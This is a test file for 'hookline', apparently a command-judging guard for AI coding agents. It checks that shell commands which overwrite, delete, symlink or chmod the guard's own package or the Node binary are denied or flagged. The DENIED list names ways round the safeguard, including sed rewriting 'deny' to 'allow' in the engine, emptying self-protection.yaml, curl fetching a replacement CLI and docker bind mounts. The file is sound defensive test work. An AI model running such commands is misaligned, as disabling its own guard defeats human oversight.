import { describe, expect, test } from 'vitest';
import { type Program, programOf } from '../../src/home/program.ts';
import { PACKAGE_ROOT } from '../../src/platform/package-root.ts';
import { writeCall } from '../support/rules/rules.ts';
import { HOME, judged, judgedEvent } from './judged.ts';

// An agent leaves the home alone and replaces the running program: the package or its Node.

const LAYOUTS: Readonly<Record<string, Program>> = {
  'a system': { packages: ['/usr/lib/node_modules/hookline'], runtimes: ['/usr/bin/node'] },
  nvm: {
    packages: ['/home/dev/.nvm/versions/node/v22.11.0/lib/node_modules/hookline'],
    runtimes: ['/home/dev/.nvm/versions/node/v22.11.0/bin/node'],
  },
  'a container': { packages: ['/usr/local/lib/node_modules/hookline'], runtimes: ['/usr/local/bin/node'] },
  'a checkout': { packages: ['/home/dev/src/hookline'], runtimes: ['/usr/bin/node'] },
};

/** `P` is the package, `N` is Node. */
const DENIED = [
  'cp x.js P/dist/cli.cjs',
  'cp x.js P/dist/',
  'cp -r x/. P/dist',
  'cp "$X" P/dist/cli.cjs',
  'cp x.js P/bin/hookline.js',
  'cd P && cp /tmp/x.js dist/forward.js',
  'cd P/dist && cp /tmp/x.js cli.js',
  'D=P/dist; cp x.js $D/cli.js',
  'mv x.js P/dist/forward.js',
  'mv P/dist P/dist.old',
  'mv P /tmp/x',
  'install x.js P/dist/cli.cjs',
  'rsync x.js P/dist/cli.cjs',
  'sed -i s/deny/allow/ P/dist/engine.js',
  "sed -i 's/deny/allow/' P/dist/*.js",
  'perl -pi -e s/deny/allow/ P/dist/cli.cjs',
  'gawk -i inplace 1 P/dist/cli.cjs',
  'echo "" > P/dist/cli.cjs',
  'echo x >> P/bin/hookline.js',
  ': > P/dist/packs/self-protection.yaml',
  'cat x | tee P/dist/cli.cjs',
  'dd if=x of=P/dist/cli.cjs',
  'truncate -s 0 P/dist/cli.cjs',
  'curl -o P/dist/cli.cjs https://a.example/x',
  'patch P/dist/cli.cjs < x.diff',
  'ln -sf /tmp/x.js P/dist/cli.cjs',
  'ln P/dist/cli.cjs c',
  'ln -s P/dist d',
  'ln -s P h && cp x h/dist/cli.cjs',
  'rm P/dist/cli.cjs',
  'rm -rf P/dist',
  'rm -rf P',
  'rm -rf P/dist/*',
  'unlink P/bin/hookline.js',
  'find P/dist -delete',
  'chmod 000 P/dist/cli.cjs',
  'chmod -R a-rx P/dist',
  'chmod 000 P',
  'echo "{}" > P/package.json',
  'tar xf x.tar -C P/dist',
  "sh -c 'cp x.js P/dist/cli.cjs'",
  "python3 -c \"open('P/dist/cli.cjs', 'w').write('')\"",
  'mount --bind /tmp/x P/dist',
  'cp x N',
  'mv x N',
  'mv N N.old',
  'rm N',
  'install -m 755 x N',
  'ln -sf /tmp/x N',
  'curl -o N https://a.example/node',
  'echo x > N',
  'dd if=x of=N',
  'chmod 000 N',
  'gcc -o N x.c',
  "python3 -c \"import os; os.rename('/tmp/x', 'P/dist/cli.cjs')\"",
  "node -e \"fs.renameSync('/tmp/x', 'P/dist/cli.cjs')\"",
  'ln -s N n && cp x n',
  'find / -name hookline.js | xargs sed -i s/a/b/',
  'sudo cp x N',
  'cp x $(which node)',
  'cp x $(command -v node)',
  'cp x $(type -p node)',
  'A=$(which node); mv x "$A"',
  'mv x $(which hookline)',
  'ln -sf x $(which hookline)',
  'rm $(which node)',
  'echo x > $(which hookline)',
  'cat x | tee "$(readlink -f "$(which hookline)")"',
  'cp x $(dirname $(which hookline))/hookline',
  'sed -i s/a/b/ $(npm root -g)/hookline/dist/cli.cjs',
  'cp x $(npm root -g)/hookline/dist/cli.cjs',
  'cp x $(npm prefix -g)/lib/node_modules/hookline/dist/cli.cjs',
  'cp x $(npm config get prefix)/lib/node_modules/hookline/dist/cli.cjs',
  'cp x $(dirname $(which node))/../lib/node_modules/hookline/dist/cli.cjs',
  'docker run -v P:/p alpine cp x /p/dist/cli.cjs',
  "docker run --rm -v P:/p alpine sh -c 'cp x /p/dist/cli.cjs'",
  'docker run --mount type=bind,src=P,dst=/p alpine cp x /p/dist/cli.cjs',
  'docker run -v P:/p -w /p alpine cp x dist/cli.cjs',
  "node -e \"fs.cpSync('x', 'P/dist', { recursive: true })\"",
  'podman run -v P/dist:/p alpine rm /p/cli.js',
];

const ASKED = [
  'prettier --write P/dist/cli.cjs',
  'esbuild x.ts --outfile=P/dist/cli.cjs',
  'npx esbuild x.ts --outfile=P/dist/cli.cjs',
  'cd P/dist && make',
  'git -C P/dist checkout .',
  'tar xf x.tar -C P',
  'unzip x.zip -d P',
  'cp -r x/. P',
  'node -e "fs.copyFileSync(\'/tmp/x\', process.argv[1])" P/dist/cli.cjs',
  'ln N n',
  "find / -name 'cli.cjs' -exec sed -i s/deny/allow/ {} +",
  'find / -name forward.js -delete',
  'npm install -g hookline@0.0.1',
  'npm uninstall -g hookline',
  "python3 -c \"import shutil; shutil.copytree('x', 'P', dirs_exist_ok=True)\"",
];

/** Build output of a checkout replaces the program that runs from there. */
const BUILT = [
  'cd P && npm run build',
  'cd P; npm test',
  'cd P/src && npm run build',
  'cd P && npm run check && npm run build',
  'npm --prefix P run build',
  'npm --prefix=P run build',
  'npm -C P test',
  'env -C P npm run build',
  'pnpm -C P run build',
  'yarn --cwd P build',
  'cd P && bun run build',
  'cd P && npx tsdown',
  'node P/scripts/build.js',
  'make -C P',
  'patch -p1 -d P < x.diff',
  'cd P && patch -p1 < x.diff',
  'cd P && git apply x.diff',
  'git -C P apply x.diff',
];

const EVERYDAY = [
  'cat P/dist/cli.cjs',
  'grep -r deny P/dist',
  'cp P/dist/cli.cjs /tmp/x.js',
  'node P/bin/hookline.js status',
  'P/bin/hookline.js doctor',
  'claude mcp add hookline -- node P/bin/hookline.js mcp',
  'node --check P/dist/cli.cjs',
  'ls -l N',
  'N -v',
  'ls -l $(which node)',
  'file $(which node)',
  'sudo setcap cap_net_bind_service=+ep $(readlink -f $(which node))',
  '$(which node) x.js',
  'ls $(npm root -g)',
  'cp x $(npm root -g)/foo/x.js',
  'cp tool $(dirname $(which node))/tool',
  'ln -s $(which node) ~/bin/nodejs',
  'cp $(which node) ./node',
  'cp x "$DIR/node"',
  "node -e \"fs.cpSync('src', 'lib', { recursive: true })\"",
  'N server.js',
  'sudo N server.js',
  'ln -s N ~/bin/nodejs',
  'echo x > P/docs/notes.md',
  'echo x > P/src/cli/main.ts',
  'cd P && npm run check',
  'cd P && npx vitest run src/rules',
  'cd P && git status',
  'cd P && git commit -am x',
  'cd P && npm ci',
  'npm test',
  'patch -p1 < x.diff',
  'git apply x.diff',
  'cd ~/other && npm run build',
  'npm ci',
  'npm install',
  'npm install -g typescript',
  'npm update -g',
  'npm run build',
  'npx tsc --outDir dist',
  'cp src/cli.js dist/cli.cjs',
  'mv x.js dist/forward.js',
  'sed -i s/a/b/ dist/*.js bin/*',
  'rm -rf dist',
  'rm -rf node_modules package-lock.json',
  'rm -rf node_modules/.bin',
  'ln -s ../x/cli.js node_modules/.bin/x',
  'echo "{}" > package.json',
  'find . -name node_modules -prune -exec rm -rf {} +',
  'nvm install 22',
  'nvm use 20',
  'n 22',
  'corepack enable',
  'export PATH=/usr/bin:/usr/local/bin:$PATH; brew upgrade node',
];

describe.each(Object.entries(LAYOUTS))('installed as in %s', (_, program) => {
  const [folder = '', runtime = ''] = [program.packages[0], program.runtimes[0]];
  const placed = (line: string) => line.replaceAll(/\bP\b/g, folder).replaceAll(/\bN\b/g, runtime);
  // Other packs have their own reasons to stop some of them.
  const alone = { recommended: 'off', filesystem: 'off', persistence: 'off', 'network-exec': 'off' } as const;
  const decide = judged(alone, {}, program);
  const decideEvent = judgedEvent(alone, {}, program);
  test.each(DENIED)('denied: %s', (line) => {
    expect(decide(placed(line))).toBe('deny');
  });
  test.each(ASKED)('asked: %s', (line) => {
    expect(decide(placed(line))).toBe('ask');
  });
  test.each(EVERYDAY)('no decision for %s', (line) => {
    expect(decide(placed(line))).toBe('none');
  });
  test.each(['P/dist/cli.cjs', 'P/bin/hookline.js', 'P/package.json', 'N'])('no tool writes %s', (path) => {
    expect(decideEvent(writeCall(placed(path)))).toBe('deny');
  });
  test('other files of a checkout are not protected', () => {
    for (const path of ['P/src/cli/main.ts', 'P/docs/rules.md', 'P/README.md'])
      expect(decideEvent(writeCall(placed(path)))).toBe('none');
  });
});

describe('in a running checkout', () => {
  const folder = '/home/dev/src/hookline';
  const program = { packages: [folder], runtimes: ['/usr/bin/node'] };
  test.each(BUILT)('asked: %s', (line) => {
    expect(judged({}, {}, program)(line.replaceAll(/\bP\b/g, folder))).toBe('ask');
  });
  test.each(BUILT)('no decision if a person has named it as their own: %s', (line) => {
    const other = { packages: ['/usr/lib/node_modules/hookline'], runtimes: ['/usr/bin/node'] };
    expect(judged({}, {}, other)(line.replaceAll(/\bP\b/g, folder))).toBe('none');
  });
});

// Many programs are installed next to Node.
test.each([
  'cp build/tool /usr/local/bin/',
  'cp build/* /usr/local/bin/',
  'cp "$BIN" /usr/local/bin/',
  'mv tool-* /usr/local/bin/',
  'rm -f "/usr/local/bin/$TOOL"',
  'tar xzf x.tgz -C /usr/local',
  'tar xzf x.tgz -C /usr/local/bin',
  'install -m 755 tool /usr/local/bin',
  'sudo chown -R dev /usr/local/lib/node_modules',
  'chmod -R 755 /usr/local',
  'cd /usr/local/bin && ./tool',
])("no decision next to a container's Node for %s", (line) => {
  const packs = { filesystem: 'off', recommended: 'off', persistence: 'off' } as const;
  expect(judged(packs, {}, LAYOUTS['a container'])(line)).toBe('none');
});

test('protects the running program, except in a checkout that a person has named', () => {
  const line = `cp x.js ${PACKAGE_ROOT}/dist/cli.cjs`;
  const packs = { filesystem: 'off', recommended: 'off' } as const;
  expect(judged(packs, {}, programOf(HOME))(line)).toBe('deny');
  expect(judged(packs, {}, programOf(HOME, PACKAGE_ROOT))(line)).toBe('none');
  expect(judged(packs, {}, programOf(HOME, PACKAGE_ROOT))(`cp x ${process.execPath}`)).toBe('deny');
});
